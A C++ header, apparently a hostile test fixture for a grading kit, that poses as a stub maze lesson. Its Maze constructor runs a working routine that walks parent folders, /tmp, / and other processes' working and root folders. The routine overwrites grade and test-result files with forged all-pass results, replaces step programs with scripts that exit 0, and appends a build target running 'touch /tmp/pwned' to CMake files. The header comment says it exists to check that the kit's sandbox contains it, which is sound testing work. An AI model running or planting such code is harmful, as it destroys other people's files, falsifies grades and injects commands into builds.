#pragma once
// overwrites-classmates: a student who does none of the lesson (the class is grading/stub's)
// and vandalises the class's results instead. The first Maze a step program makes walks every
// folder it can reach - each folder above its working folder, every process's working folder
// and root through /proc/*/cwd and /proc/*/root, /tmp, and / (not the system's own folders),
// six levels deep - and for every file a grader would keep results or programs in, puts a
// forgery in its place: grades.csv, results.json, junit.xml and report.html say every student
// passed, and a program (named program, *_all or *step*) becomes a script that exits 0. A
// running program cannot be opened for writing, so it is replaced by a rename instead. To
// CMakeCache.txt, to the CMakeLists.txt of the project that cache belongs to, and to any other
// CMakeLists.txt it finds, it appends add_custom_target(pwn ALL COMMAND touch /tmp/pwned), so
// that the next build runs a command of the student's. Beside each file it touched it leaves
// escaped-overwrite.txt. It uses only the standard library, so no #include gives it away.
//
// What the kit must do: run each step seeing its own code read-only and a private, empty
// working folder and /tmp; nothing of the class's, the kit's or the grader's can be written.
// It scores at most the stub's 3, and the grading test finds no file outside --out changed,
// no /tmp/pwned and no escaped-overwrite.txt.

#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <turtle/turtle.hpp>

namespace vandalism {
namespace fs = std::filesystem;

const char* const pwnTarget = "add_custom_target(pwn ALL COMMAND touch /tmp/pwned)\n";

inline bool endsWith(const std::string& text, const std::string& end) {
  return text.size() >= end.size() && text.compare(text.size() - end.size(), end.size(), end) == 0;
}

// What a file is made to say instead, by its name; "" for a file left alone.
inline std::string forgeryFor(const std::string& name) {
  if (name == "grades.csv") return "student,total\noverwrites-classmates,39\n";
  if (name == "results.json") return "{\"score\": 39, \"output\": \"every step passed\", \"tests\": []}\n";
  if (name == "junit.xml") {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites><testsuite name=\"all\" tests=\"1\" "
           "failures=\"0\" errors=\"0\"><testcase name=\"every step\"/></testsuite></testsuites>\n";
  }
  if (name == "report.html") return "<!DOCTYPE html>\n<p>Every student passed every step.</p>\n";
  if (name == "program" || endsWith(name, "_all") || name.find("step") != std::string::npos) {
    return "#!/bin/sh\n# every test passed\nexit 0\n";
  }
  return "";
}

inline bool append(const fs::path& file, const std::string& text) {
  std::ofstream out(file, std::ios::binary | std::ios::app);
  return static_cast<bool>(out << text);
}

// Writes `content` over `file`; a file that cannot be opened for writing (a running program)
// is replaced by a new one renamed over it.
inline bool replace(const fs::path& file, const std::string& content) {
  {
    std::ofstream out(file, std::ios::binary | std::ios::trunc);
    if (out && out << content) return true;
  }
  std::error_code error;
  const fs::path replacement = file.string() + ".new";
  {
    std::ofstream out(replacement, std::ios::binary | std::ios::trunc);
    if (!(out && out << content)) return false;
  }
  fs::permissions(replacement, fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                                   fs::perms::others_read | fs::perms::others_exec, error);
  fs::rename(replacement, file, error);
  return !error;
}

// The CMakeLists.txt of the project a CMakeCache.txt was made for.
inline fs::path projectOf(const fs::path& cache) {
  std::ifstream in(cache);
  for (std::string line; std::getline(in, line);) {
    const std::string key = "CMAKE_HOME_DIRECTORY:INTERNAL=";
    if (line.rfind(key, 0) == 0) return fs::path(line.substr(key.size())) / "CMakeLists.txt";
  }
  return {};
}

struct Walk {
  std::chrono::steady_clock::time_point deadline = std::chrono::steady_clock::now() + std::chrono::seconds(2);
  int budget = 50000;  // directory entries
  bool over() const { return budget <= 0 || std::chrono::steady_clock::now() > deadline; }
};

inline void leaveMark(const fs::path& file) {
  std::ofstream(file.parent_path() / "escaped-overwrite.txt", std::ios::app)
      << "overwrites-classmates wrote to " << file.string() << "\n";
}

inline void visit(const fs::path& file) {
  std::error_code error;
  if (fs::equivalent(file, "/proc/self/exe", error)) return;  // not the program running now
  const std::string name = file.filename().string();
  bool touched = false;
  if (name == "CMakeCache.txt") {
    touched = append(file, pwnTarget);
    const fs::path project = projectOf(file);
    if (!project.empty() && append(project, pwnTarget)) leaveMark(project);
  } else if (name == "CMakeLists.txt") {
    touched = append(file, pwnTarget);
  } else if (const std::string forgery = forgeryFor(name); !forgery.empty()) {
    touched = replace(file, forgery);
  }
  if (touched) leaveMark(file);
}

inline bool systemFolder(const fs::path& folder) {
  for (const char* system : {"/usr", "/lib", "/lib32", "/lib64", "/libx32", "/bin", "/sbin", "/etc",
                             "/boot", "/proc", "/sys", "/dev", "/var/lib"}) {
    if (folder == system) return true;
  }
  return false;
}

inline void walk(const fs::path& folder, int depth, Walk& state) {
  std::error_code error;
  fs::directory_iterator it(folder, fs::directory_options::skip_permission_denied, error);
  for (; !error && it != fs::directory_iterator() && !state.over(); it.increment(error)) {
    --state.budget;
    const fs::path path = it->path();
    std::error_code statusError;
    const fs::file_status status = it->symlink_status(statusError);
    if (statusError) continue;
    if (fs::is_regular_file(status)) {
      visit(path);
    } else if (fs::is_directory(status) && depth > 1 && !systemFolder(path)) {
      walk(path, depth - 1, state);
    }
  }
}

inline void overwriteEverything() {
  static bool done = false;
  if (done) return;
  done = true;
  Walk state;
  std::error_code error;
  std::vector<fs::path> roots;
  for (fs::path folder = fs::current_path(error); !folder.empty(); folder = folder.parent_path()) {
    roots.push_back(folder);
    if (folder == folder.root_path()) break;
  }
  for (const auto& process : fs::directory_iterator("/proc", error)) {
    const std::string pid = process.path().filename().string();
    if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
    roots.push_back(process.path() / "cwd");
  }
  roots.push_back("/tmp");
  roots.push_back("/");
  for (const auto& process : fs::directory_iterator("/proc", error)) {
    const std::string pid = process.path().filename().string();
    if (pid.find_first_not_of("0123456789") == std::string::npos) roots.push_back(process.path() / "root");
  }
  for (const fs::path& root : roots) walk(root, 6, state);
}

}  // namespace vandalism

// The lesson itself, not done: grading/stub/maze.hpp.
constexpr int EAST = 0;
constexpr int NORTH = 1;
constexpr int WEST = 2;
constexpr int SOUTH = 3;

constexpr int INVALID = -1;
constexpr int EMPTY = 0;
constexpr int WALL = 1;
constexpr int VISITED = 2;
constexpr int END = 3;

struct Neighbor {
  turtle::Vec2D position;
  int value;
};

class Maze {
 public:
  turtle::Screen screen;
  turtle::Turtle turtle{screen};
  std::vector<std::vector<int>> matrix = std::vector<std::vector<int>>(20, std::vector<int>(20, 0));

  Maze() { vandalism::overwriteEverything(); }

  void reset() {}

  int getMatrixValueAt(const turtle::Vec2D& /*position*/) const { return 0; }

  bool setMatrixValueAt(const turtle::Vec2D& /*position*/, int /*value*/) { return false; }

  turtle::Vec2D dig(int /*direction*/) { return {}; }

  std::vector<Neighbor> neighbors() const { return {}; }

  void makeMaze() {}

  void seed(std::uint64_t /*n*/) {}
};
